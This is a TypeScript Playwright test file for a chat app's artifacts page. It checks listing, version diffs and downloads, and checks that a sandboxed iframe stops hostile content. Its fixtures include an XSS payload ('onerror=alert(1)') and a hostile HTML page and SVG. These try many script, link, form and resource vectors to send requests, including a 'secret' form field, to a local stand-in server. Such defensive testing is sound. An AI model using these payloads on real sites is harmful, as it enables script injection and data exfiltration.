import { readFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { afterEach, expect } from '@jest/globals';
import type { Locator } from 'playwright-core';
import { callAnswer, textAnswer } from '../servers/chat-completions.ts';
import { streams } from '../servers/fake-provider.ts';
import { verifies } from '../spec/verifies.ts';
import { isSound } from './axe.ts';
import { withBrowser } from './browser.ts';
import { card, eventually, isCount, isFocused, look, send } from './in-page.ts';
import { withModel } from './live-answer.ts';
import { NARROW } from './wide.ts';

const shared = withBrowser(withModel);
const AREA = '/#/artifacts';

type Draft = NonNullable<Parameters<(typeof shared.engine.client)['artifacts.save']>[0]['body']>;

async function saved(body: Draft): Promise<string> {
  return (await shared.engine.client['artifacts.save']({ body })).artifactId;
}

const remove = async (id: string) => await shared.engine.client['artifacts.delete']({ params: { id } });

async function removeAll(): Promise<void> {
  for (;;) {
    const { artifacts } = await shared.engine.client['artifacts.list']();
    if (artifacts.length === 0) return;
    for (const { artifactId } of artifacts) await remove(artifactId);
  }
}
afterEach(removeAll);

/** The picture is there. In a frame without scripts nothing can be waited for but what is asked again. */
async function isDrawn(image: Locator): Promise<void> {
  while ((await image.evaluate((one) => (one as unknown as { naturalWidth: number }).naturalWidth)) === 0);
}

/** A server of a stranger, and how often anything connected to it. */
async function sink() {
  const asked: string[] = [];
  const server = createServer((socket) => {
    asked.push('a connection');
    socket.on('data', (data) => asked.push(String(data).split('\r\n')[0] ?? '')).on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { asked, url: `http://127.0.0.1:${port}`, close: () => server.close() };
}

verifies('page.artifacts', 'lists, finds, shows by type, and deletes artifacts', async () => {
  await saved({
    title: 'Report <b>May</b>',
    description: 'What was sold.',
    content: '# Sales\n\nAll is **well** <img src=x onerror=alert(1)>.\n\n| a | b |\n|---|---|\n| 1 | 2 |',
  });
  await saved({ title: 'Table', type: 'csv', content: 'name,sum\n"Tea, green",12\n' });
  await saved({ title: 'Broken table', type: 'csv', content: 'name\n"Tea' });
  await saved({ title: 'Data', type: 'json', content: '{"big":12345678901234567890,"list":[]}' });
  await saved({ title: 'Drawing', type: 'mermaid', content: 'graph TD; a-->b' });
  await saved({ title: 'Notes', type: 'text', content: 'One\u{202E}two\nthree' });
  await saved({
    title: 'Circle',
    type: 'svg',
    content: '<?xml version="1.0"?><svg viewBox="0 0 10 10"><title>A circle</title><circle r="5"/></svg>',
  });
  const page = await shared.open(AREA);
  const report = card(page, 'Report <b>May</b>');
  await report.getByText('What was sold.').waitFor();
  await report.getByText(/^Markdown · \d+ B · version 1 · saved /u).waitFor();
  await page.getByText('7 artifacts').waitFor();
  await isSound(page);
  await page.getByLabel('Type', { exact: true }).selectOption('csv');
  await page.getByText('2 artifacts').waitFor();
  await page.getByLabel('Search artifacts').fill('broken');
  await page.getByText('1 artifact', { exact: true }).waitFor();
  await page.getByLabel('Search artifacts').fill('nothing of this name');
  await page.getByText('No artifact fits.').waitFor();
  await page.getByLabel('Search artifacts').fill('');
  await page.getByLabel('Type', { exact: true }).selectOption('all');

  const opened = async (title: string) => {
    await page.getByRole('article').getByRole('link', { name: title, exact: true }).press('Enter');
    await isFocused(page.getByRole('heading', { name: title, level: 2 }));
  };
  const back = async () => {
    await page.getByRole('link', { name: 'All artifacts' }).press('Enter');
    await isFocused(page.getByRole('heading', { name: 'Artifacts', level: 2 }));
  };
  await opened('Report <b>May</b>');
  await page.getByRole('heading', { name: 'Sales' }).waitFor();
  await page.getByText('<img src=x onerror=alert(1)>').waitFor();
  await isSound(page);
  await back();
  await opened('Table');
  await page.getByRole('columnheader', { name: 'sum' }).waitFor();
  await page.getByRole('cell', { name: 'Tea, green' }).waitFor();
  await isSound(page);
  await back();
  await opened('Broken table');
  await page.getByText('In row 2, a quoted field has no closing quote.').waitFor();
  await page.getByText('name "Tea').waitFor();
  await back();
  await opened('Data');
  await page.getByText('"big": 12345678901234567890,').waitFor();
  await back();
  await opened('Drawing');
  await page.getByRole('group', { name: 'Diagram: flowchart' }).waitFor();
  await page.getByRole('button', { name: 'Show code' }).press('Enter');
  await page.getByText('graph TD; a-->b').waitFor();
  await back();
  await opened('Notes');
  await page.getByText('One\u{FFFD}two').waitFor();
  await back();
  await opened('Circle');
  await isDrawn(page.frameLocator('iframe').locator('img'));
  await isSound(page);

  await page.getByRole('button', { name: 'Delete: Circle' }).press('Enter');
  const asks = page.getByRole('dialog');
  await asks.getByRole('button', { name: 'Cancel' }).press('Enter');
  await asks.waitFor({ state: 'detached' });
  await page.getByRole('button', { name: 'Delete: Circle' }).press('Enter');
  // It opens again also before the browser tells that it was closed.
  await asks.getByRole('button', { name: 'Cancel' }).waitFor();
  await page.evaluate(`(async () => {
    document.querySelector('dialog button:not(.bad)').click();
    await null;
    document.querySelector('[aria-label="Delete: Circle"]').click();
  })()`);
  await asks.getByRole('button', { name: 'Delete' }).press('Enter');
  await page.getByText('“Circle” was deleted.').waitFor();
  await page.getByText('6 artifacts').waitFor();
  await isCount(card(page, 'Circle'), 0);
});

verifies(
  'page.artifacts',
  'compares versions, points a newer one out without moving what is read, and downloads the one that is shown',
  async () => {
    const artifactId = await saved({ title: 'Plan', type: 'text', content: 'tea\nmilk\n' });
    await saved({ artifactId, content: 'tea\nhoney\n' });
    const page = await shared.open(`${AREA}/${artifactId}`, {
      viewport: NARROW,
      acceptDownloads: true,
      mayComplain: /404/u,
    });
    await page.getByText('tea honey').waitFor();
    await saved({ artifactId, content: 'coffee\n' });
    await look(page);
    await page.getByText('Version 3 was saved meanwhile.').waitFor();
    await eventually(async () => expect(await page.locator('.plain').textContent()).toBe('tea\nhoney\n'));
    await isSound(page);
    await page.getByRole('button', { name: 'Show it' }).press('Enter');
    await page.getByText('coffee').waitFor();

    const field = (name: string) => page.getByLabel(name, { exact: true });
    const versions = async () => await field('Version').locator('option').allTextContents();
    await eventually(async () =>
      expect((await versions()).map((one) => one.slice(0, 9))).toEqual([
        'Version 3',
        'Version 2',
        'Version 1',
      ]),
    );
    await field('Version').selectOption('v2');
    await page.getByText('tea honey').waitFor();
    await field('Compare with').selectOption('v1');
    await page.getByRole('heading', { name: 'What changed from version 1 to version 2' }).waitFor();
    const changes = page.getByRole('group', { name: 'What changed from version 1 to version 2' });
    await changes.locator('.removed').getByText('milk').waitFor();
    await changes.locator('.added').getByText('honey').waitFor();
    await isSound(page);
    await field('Compare with').selectOption('');
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download: Plan' }).press('Enter'),
    ]);
    expect(file.suggestedFilename()).toBe('Plan v2.txt');
    expect(readFileSync(await file.path(), 'utf8')).toBe('tea\nhoney\n');

    await remove(artifactId);
    await look(page);
    await page.getByText('This artifact is gone.').waitFor();
  },
);

verifies('page.artifacts', 'leads from a conversation to what it saved, and back', async () => {
  const { provider } = shared;
  const input = JSON.stringify({ title: 'Tea list', type: 'text', content: 'Darjeeling' });
  provider.reply(streams(...callAnswer('save_artifact', input)), streams(...textAnswer('It is saved.')));
  const page = await shared.open();
  await send(page, 'Save the list of teas');
  await page.getByRole('region', { name: 'Conversation' }).getByText('It is saved.').waitFor();
  const link = page.getByRole('link', { name: 'Open the artifact “Tea list”' });
  await link.waitFor();
  await isSound(page);
  const conversation = page.url();
  // As it is drawn from what is stored.
  await page.reload();
  await link.press('Enter');
  await page.getByText('Darjeeling').waitFor();
  await page.getByRole('link', { name: 'Conversation of Tea list' }).press('Enter');
  await page.getByRole('region', { name: 'Conversation' }).getByText('It is saved.').waitFor();
  expect(page.url()).toBe(conversation);
});

verifies('page.artifacts', 'lists in pages, and says why a list could not be read', async () => {
  for (let nth = 1; nth <= 52; nth += 1)
    await saved({ title: `Number ${nth}`, type: 'text', content: `${nth}` });
  const page = await shared.open(AREA, { mayComplain: /500/u });
  await page.getByText('The 50 artifacts that changed last').waitFor();
  await page.getByRole('button', { name: 'Show older artifacts' }).press('Enter');
  await page.getByText('52 artifacts').waitFor();
  await card(page, 'Number 1').waitFor();
  await removeAll();
  await look(page);
  await page.getByText('There is no artifact yet.').waitFor();
  await page.route(/\/api\/artifacts/u, async (route) => {
    const problem = {
      type: 'about:blank',
      title: 'Broken',
      status: 500,
      detail: 'The disk is broken.',
      code: 'x',
    };
    await route.fulfill({ status: 500, contentType: 'application/problem+json', json: problem });
  });
  await look(page);
  await page.getByRole('alert').getByText('The disk is broken.').waitFor();
});

/** In a hostile page, and of a hostile drawing. */
const PARTS = '.go, img[width="100%"]';
const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

/** Everything in a page that could ask another machine, or run, by itself or by a click on the parts of the class `go`. */
const hostile = (to: string): string => `
<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${to}/refresh">
<base href="${to}/">
<link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}"><link rel="prefetch" href="${to}/prefetch">
<link rel="stylesheet" href="${to}/style"><link rel="icon" href="${to}/icon"><link rel="modulepreload" href="${to}/m">
<style>@import url(${to}/import); @font-face { font-family: f; src: url(${to}/font) }
body { font-family: f; background: url(${to}/background); color: rgb(1, 2, 3) }</style>
<script>fetch("${to}/script"); parent.postMessage("out", "*")</script><script src="${to}/src"></script>
</head><body onload="fetch('${to}/onload')">
<h1 style="color: rgb(4, 5, 6)">Inside</h1>
<img src="${to}/img" srcset="${to}/srcset 2x" onerror="fetch('${to}/onerror')"><img id="own" src="${PIXEL}">
<video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio" autoplay></audio>
<picture><source srcset="${to}/source"><img src="${PIXEL}"></picture><input type="image" src="${to}/input">
<object data="${to}/object"></object><embed src="${to}/embed"><iframe src="${to}/iframe"></iframe>
<iframe srcdoc="<p class=go>nested &lt;a href='${to}/nested'&gt;link&lt;/a&gt;</p>"></iframe>
<svg width="60" height="20"><image href="${to}/image" width="9" height="9"/><use href="${to}/use#x"/>
<a href="${to}/svg-link"><rect class="go" width="60" height="20"/></a>
<script>fetch("${to}/svg-script")</script></svg>
<p><a class="go" href="${to}/link">link</a> <a class="go" href="${to}/blank" target="_blank">blank</a>
<a class="go" href="${to}/top" target="_top">top</a> <a class="go" href="#x" ping="${to}/ping">ping</a>
<a class="go" href="javascript:fetch('${to}/js')">js</a> <A class="go" HREF="${to}/download" download>download</A></p>
<map name="m"><area shape="default" href="${to}/area"></map><p><img class="go" usemap="#m" width="20" height="20" src="${PIXEL}"></p>
<math href="${to}/math"><mi class="go" href="${to}/mi">math</mi></math>
<form action="${to}/form" method="post"><input name="typed" value="secret"><button class="go">send</button></form>
<button class="go" form="f2" formaction="${to}/formaction">act</button><form id="f2" target="_blank"></form>
</body></html>`;

verifies(
  'page.artifacts.closed-off',
  'shows a hostile page, and lets nothing of it run or leave, whatever is clicked',
  async () => {
    const { engine } = shared;
    const stranger = await sink();
    const id = await saved({ title: 'Hostile', type: 'html', content: hostile(stranger.url) });
    const drawing = await saved({
      title: 'Hostile drawing',
      type: 'svg',
      content: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${stranger.url}/onload')"><style>@import url(${stranger.url}/css);</style><image href="${stranger.url}/image"/><a href="${stranger.url}/link"><rect class="go" width="99" height="99"/></a><foreignObject><iframe src="${stranger.url}/frame"/></foreignObject></svg>`,
    });
    const page = await shared.open(`${AREA}/${id}`, { mayComplain: /^(?!fault)/u });
    const frame = page.locator('iframe.closed-off');
    const inside = page.frameLocator('iframe.closed-off');
    for (const path of [id, drawing]) {
      await page.goto(`${engine.baseUrl}${AREA}/${path}`);
      await inside.locator(PARTS).first().waitFor();
      expect(await frame.getAttribute('sandbox')).toBe('');
      await isDrawn(inside.locator(path === id ? '#own' : PARTS));
      const count = await inside.locator(PARTS).count();
      for (let nth = 0; nth < count; nth += 1)
        for (const how of [
          {},
          { button: 'middle' as const },
          { modifiers: ['Control' as const] },
          { modifiers: ['Shift' as const] },
        ])
          await inside
            .locator(PARTS)
            .nth(nth)
            .click({ ...how, force: true });
      await inside.locator(PARTS).first().waitFor();
    }
    const other = await saved({ title: 'Other', type: 'text', content: 'Still here' });
    await page.goto(`${engine.baseUrl}${AREA}/${other}`);
    await page.getByText('Still here').waitFor();
    expect(stranger.asked).toEqual([]);
    expect(shared.browser.contexts().flatMap((context) => context.pages())).toHaveLength(1);
    // It would have been seen.
    await fetch(`${stranger.url}/seen`, { signal: AbortSignal.timeout(500) }).catch(() => undefined);
    expect(stranger.asked).toContain('GET /seen HTTP/1.1');
    stranger.close();
  },
);
